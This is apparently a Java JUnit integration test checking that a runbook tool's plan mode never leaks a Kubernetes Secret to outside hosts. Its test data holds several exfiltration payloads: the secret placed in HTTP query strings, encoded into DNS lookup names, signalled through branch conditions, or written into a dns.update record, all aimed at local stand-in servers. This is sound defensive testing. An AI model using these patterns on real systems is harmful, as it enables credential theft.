package dev.runbook.app.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import dev.runbook.provider.kube.adapter.Testbed;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A plan of a runbook that nobody here has written reads a Secret of a real cluster, and tells nobody elsewhere of it. */
@Tag("testbed")
class StrangersSecretIT {
    private static final String PASSWORD = "only-in-this-cluster-9981";

    @TempDir
    private Path folder = Path.of("");

    private final List<String> asked = new CopyOnWriteArrayList<>();
    private final HttpServer server;

    StrangersSecretIT() throws IOException {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            asked.add(exchange.getRequestURI().toString());
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        server.start();
    }

    @AfterEach
    void end() {
        server.stop(0);
    }

    @Test
    void in_whatever_way_it_is_said() throws IOException {
        String field = "secret(\"s\").field(\"data.password\")";
        try (Testbed testbed = withSecret()) {
            for (String body : List.of(
                    "note \"#{http.get(\"URL?#{FIELD}\").status}\"",
                    "x = FIELD\nnote \"#{http.get(\"URL?#{x}\").status}\"",
                    "note \"#{http.get(\"URL?#{resource(\"v1/Secret\", \"s\").field(\"data.password\")}\").status}\"",
                    "note \"#{http.get(\"URL?#{secret(\"s\").field(\"metadata.uid\")}\").status}\"",
                    "if FIELD =~ /^b/\n  note \"#{http.get(\"URL?yes\").status}\"\nelse\n  note \"#{http.get(\"URL?no\").status}\"\nend",
                    "if FIELD != \"a\"\n  note \"#{http.get(\"URL?not-a\").status}\"\nend",
                    "note \"#{dns.lookup(\"#{FIELD}.example.com\", at: \"127.0.0.1:9\")}\"",
                    "if FIELD == \"a\"\n  finish \"a\"\nend\nnote \"#{http.get(\"URL?not-a\").status}\"")) {
                String text = body.replace("FIELD", field).replace("URL", url());
                CommandResult plan = planned(testbed, text);
                assertEquals(List.of(), asked, text);
                String out = plan.out().replaceAll("\\s+", " ");
                assertTrue(
                        out.contains("sends nothing elsewhere")
                                || out.contains("a secret never becomes part of a text"),
                        text + "\n" + plan.out() + plan.err());
                assertFalse(out.contains(PASSWORD), out);
                assertFalse(
                        out.contains(Base64.getEncoder().encodeToString(PASSWORD.getBytes(StandardCharsets.UTF_8))),
                        out);
            }
        }
    }

    @Test
    void a_plan_that_is_played_asks_no_name_server_that_only_the_runbook_names_for_what_it_has_read()
            throws IOException {
        Path file = Path.of("target", "stranger-name");
        Files.writeString(file, PASSWORD);
        try (Testbed testbed = withSecret();
                DatagramSocket names = new DatagramSocket(0, InetAddress.getLoopbackAddress())) {
            names.setSoTimeout(1);
            String text = "name = \"#{file.read(\"" + file + "\")}.example.com\"\n"
                    + "dns.update name, \"198.51.100.4\", at: \"127.0.0.1:" + names.getLocalPort() + "\"\n"
                    + "resource.delete resource(\"v1/ConfigMap\", \"none\")";
            CommandResult plan = planned(testbed, text);
            assertTrue(plan.out().contains("that dns.update ends well"), plan.out() + plan.err());
            assertThrows(
                    SocketTimeoutException.class,
                    () -> names.receive(new DatagramPacket(new byte[512], 512)),
                    plan.out());
        } finally {
            Files.delete(file);
        }
    }

    @Test
    void that_it_is_there_is_no_part_of_it() throws IOException {
        try (Testbed testbed = withSecret()) {
            CommandResult plan = planned(
                    testbed, "if secret(\"s\").exists?\n  note \"#{http.get(\"" + url() + "?there\").status}\"\nend");
            assertEquals(List.of("/?there"), asked, plan.out() + plan.err());
        }
    }

    private static Testbed withSecret() {
        Testbed testbed = Testbed.open();
        testbed.post(
                "/api/v1/namespaces/" + testbed.namespace + "/secrets",
                Map.of(
                        "apiVersion",
                        "v1",
                        "kind",
                        "Secret",
                        "metadata",
                        Map.of("name", "s"),
                        "stringData",
                        Map.of("password", PASSWORD)));
        return testbed;
    }

    private CommandResult planned(Testbed testbed, String body) throws IOException {
        Path runbook = Files.writeString(
                folder.resolve("stranger.rb"),
                "runbook \"Stranger\"\n\nin_namespace \"" + testbed.namespace + "\"\n\n" + body + "\n");
        return CommandResult.run("plan", runbook.toString(), "--kubeconfig=" + testbed.kubeconfig);
    }

    private String url() {
        return "http://127.0.0.1:" + server.getAddress().getPort() + "/";
    }
}
